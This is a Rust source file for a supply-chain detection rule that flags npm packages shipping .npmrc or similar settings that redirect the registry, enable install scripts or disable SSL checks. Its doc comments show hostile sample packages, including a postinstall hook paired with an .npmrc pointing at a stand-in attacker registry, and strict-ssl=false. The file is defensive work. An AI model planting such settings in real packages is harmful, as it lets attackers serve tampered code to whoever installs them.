//! # A published package brings settings of a package manager
//!
//! A package from a registry holds an `.npmrc`, `.yarnrc`, `.yarnrc.yml`, `pnpm-workspace.yaml` or `bunfig.toml` at its root
//! that names a registry or proxy, switches install scripts on or the checks of secure connections off.
//!
//! ## Why it matters
//!
//! Publishing leaves `.npmrc` out, so someone put it there. A package manager that a hook starts in the package's folder
//! takes its settings from it: what it fetches comes from the host that the package names.
//!
//! ## Known benign uses
//!
//! A project's own settings that were packed by mistake: one release of 4,668 in the corpora holds such a file. They decide
//! something only where a hook starts a package manager.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "npm install --no-save left-pad"}}
//! == .npmrc
//! registry=https://npm.drop.invalid/ #~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! require("child_process").execSync("npm install --prefix . left-pad");
//! == .npmrc
//! ignore-scripts=false #~ here
//! strict-ssl=false #~ and here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! console.log("thank you");
//! == .npmrc
//! package-lock=false
//! save-exact=true
//! ```
//!
//! ```package git
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"prepare": "tsc"}}
//! == .npmrc
//! registry=https://npm.acme.invalid/
//! ```
//!
//! ## References
//!
//! - GitHub: Changes to git dependencies and `.npmrc` (February 2026)
//! - npm: files that publishing leaves out

use crate::prelude::*;

/// A published package brings settings of a package manager.
pub struct PackageBringsManagerSettings;

impl Rule for PackageBringsManagerSettings {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "package-brings-manager-settings",
            title: "A published package brings settings of a package manager",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::High,
            technique: "T1195.001",
            covers: &["npmrc-git-config"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let starts = facts.unasked_commands().any(|command| command.runs.iter().any(is_manager));
        for setting in facts.brought_settings() {
            let does = match &setting.note {
                AutoRunNote::Registry(address) => {
                    format!("makes package managers fetch through `{}`", excerpt(address, 80))
                }
                AutoRunNote::EnablesScripts => "switches install scripts on".to_owned(),
                _ => "switches the checks of secure connections off".to_owned(),
            };
            let trigger = if starts { Trigger::Install } else { Trigger::Dormant };
            found.at(trigger, &setting.locus, &does);
        }
    }
}

/// Whether a package manager is started, which reads the settings of the folder that it is started in.
fn is_manager(run: &Run) -> bool {
    match run {
        Run::Package { .. } | Run::PackageScript { .. } => true,
        Run::Program { name, .. } => {
            matches!(name.as_str(), "npm" | "npx" | "pnpm" | "yarn" | "bun" | "bunx")
        }
        _ => false,
    }
}
